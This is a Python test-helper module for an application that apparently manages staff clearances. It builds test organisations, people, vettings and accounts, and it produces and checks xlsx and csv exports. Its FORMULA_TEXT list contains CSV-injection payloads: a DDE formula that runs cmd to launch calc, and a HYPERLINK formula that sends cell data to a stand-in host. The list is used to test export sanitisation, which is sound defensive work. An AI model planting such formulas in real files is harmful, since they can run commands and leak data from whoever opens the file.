"""Building organisations for tests through the real operations (actor=None: the installer)."""

from __future__ import annotations

import csv
import io
import itertools
import json
from dataclasses import dataclass, field
from typing import Any

from baomi.access.roles import Role
from baomi.accounts import operations as accounts
from baomi.accounts.models import Account
from baomi.audit.models import AuditEvent
from baomi.core.levels import Clearance
from baomi.org import operations as org
from baomi.org.models import Department, Organisation, Person, Rank
from baomi.org.ranks import RANKS

PASSWORD = "Test-password-2026"
_seq = itertools.count(1)


@dataclass
class World:
    """One organisation with the standard ranks and a small department tree:
    root ─ office (general office) ─ tech ─ lab."""

    organisation: Organisation
    ranks: dict[str, Rank]
    departments: dict[str, Department] = field(default_factory=dict)

    @classmethod
    def build(cls, name: str | None = None) -> World:
        o = org.create_organisation(actor=None, name=name or f"单位{next(_seq)}")
        ranks = {
            key: org.create_rank(actor=None, organisation_id=o.pk, key=key, name=n, seniority=s)
            for key, n, s in RANKS
        }
        world = cls(o, ranks)
        world.department("root")
        world.department("office", parent="root", is_general_office=True)
        world.department("tech", parent="root")
        world.department("lab", parent="tech")
        return world

    def department(self, key: str, *, parent: str | None = None, **kw: Any) -> Department:
        dept = org.create_department(
            actor=None,
            organisation_id=self.organisation.pk,
            name=f"{key}-{next(_seq)}",
            parent_id=self.departments[parent].pk if parent else None,
            **kw,
        )
        self.departments[key] = dept
        return dept

    def person(
        self,
        *,
        dept: str = "tech",
        rank: str = "staff",
        clearance: int = Clearance.NONE,
        name: str | None = None,
        on_probation: bool = False,
    ) -> Person:
        n = next(_seq)
        p = org.create_person(
            actor=None,
            department_id=self.departments[dept].pk,
            rank_id=self.ranks[rank].pk,
            name=name or f"人员{n}",
            staff_number=f"S{n:05d}",
            on_probation=on_probation,
        )
        if clearance != Clearance.NONE:
            p = org.set_clearance(actor=None, person_id=p.pk, clearance=clearance)
        return Person.objects.select_related("department", "rank").get(pk=p.pk)

    def vet(self, person: Person, *, signed: bool = True, passed: bool = True) -> Person:
        """Record, as the installer, a vetting of ``person`` (passed unless told) and, unless
        ``signed`` is false, their confidentiality agreement: what PPL-VET asks before a
        clearance or a classified post."""
        import datetime

        from baomi.people.operations.papers import record_paper
        from baomi.people.operations.vetting import ITEM_KEYS, record_vetting

        day = datetime.date(2020, 1, 2)
        record_vetting(
            actor=None,
            person_id=person.pk,
            reviewer_id=self.person(dept="office").pk,
            reviewed_on=day,
            result="passed" if passed else "failed",
            items={key: {"ok": passed, "note": ""} for key in ITEM_KEYS},
        )
        if signed:
            record_paper(
                actor=None,
                person_id=person.pk,
                kind="agreement",
                signed_on=day,
                version="2020",
                kept_in="档案室",
            )
        return person

    def account(
        self,
        role: str = Role.STAFF,
        person: Person | None = None,
        *,
        username: str | None = None,
        **person_kw: Any,
    ) -> Account:
        person = person or self.person(**person_kw)
        created = accounts.create_account(
            actor=None,
            username=username or f"{role}{next(_seq)}",
            role=role,
            password=PASSWORD,
            person_id=person.pk,
            one_time=False,
        )
        return Account.objects.select_related("person__department", "person__rank").get(
            pk=created.pk
        )


def prepare_leaving(person_id: int, actor: Any = None) -> Any:
    """What PPL-EXIT asks before a cleared person is marked as left: an open exit case of
    leaving and their signed commitment letter, recorded by ``actor`` (the installer by
    default); the case, or None for an uncleared person (who leaves without one)."""
    from django.utils import timezone

    from baomi.people.operations.exit import open_exit_case, record_commitment

    if Person.objects.get(pk=person_id).clearance == Clearance.NONE:
        return None
    case = open_exit_case(actor=actor, person_id=person_id, kind="leave")
    return record_commitment(
        actor=actor,
        case_id=case.pk,
        signed_on=timezone.localdate(),
        version="2026",
        kept_in="人事档案室",
    )


def audit_events(action: str) -> list[dict[str, Any]]:
    """The bodies of the audit events recorded with ``action``, oldest first, as the auditor
    reads them: the staged reads chained first (``baomi.audit.recorder.seal``)."""
    from baomi.audit.recorder import seal

    seal()
    return [json.loads(bytes(e.body)) for e in AuditEvent.objects.filter(action=action)]


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    """An .xlsx workbook whose first sheet holds ``rows`` (the first one the header)."""
    from openpyxl import Workbook

    book = Workbook()
    for row in rows:
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_sheets(sheets: dict[str, list[list[Any]]], active: int = 0) -> bytes:
    """An .xlsx workbook of the named sheets in order, each a list of rows, the ``active``-th
    one active."""
    from openpyxl import Workbook

    book = Workbook()
    book.remove(book.active)
    for title, rows in sheets.items():
        sheet = book.create_sheet(title)
        for row in rows:
            sheet.append(row)
    book.active = active
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_bytes(rows: list[list[Any]], encoding: str = "utf-8-sig") -> bytes:
    """A .csv file of ``rows`` in ``encoding`` (utf-8-sig: UTF-8 with a byte order mark)."""
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    return text.getvalue().encode(encoding)


# Text a spreadsheet would run as a formula (the OWASP CSV-injection list of first characters).
FORMULA_TEXT = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"x")',
    "\t=1+1",
    "\r=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
)


def xlsx_texts(content: bytes) -> list[str]:
    """Every non-empty cell of an exported workbook, after checking that none is a formula:
    no worksheet holds a formula element, and openpyxl reads each cell back as a string."""
    import re
    import zipfile

    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type == "s" and isinstance(c.value, str) for c in cells)
    return [c.value for c in cells]
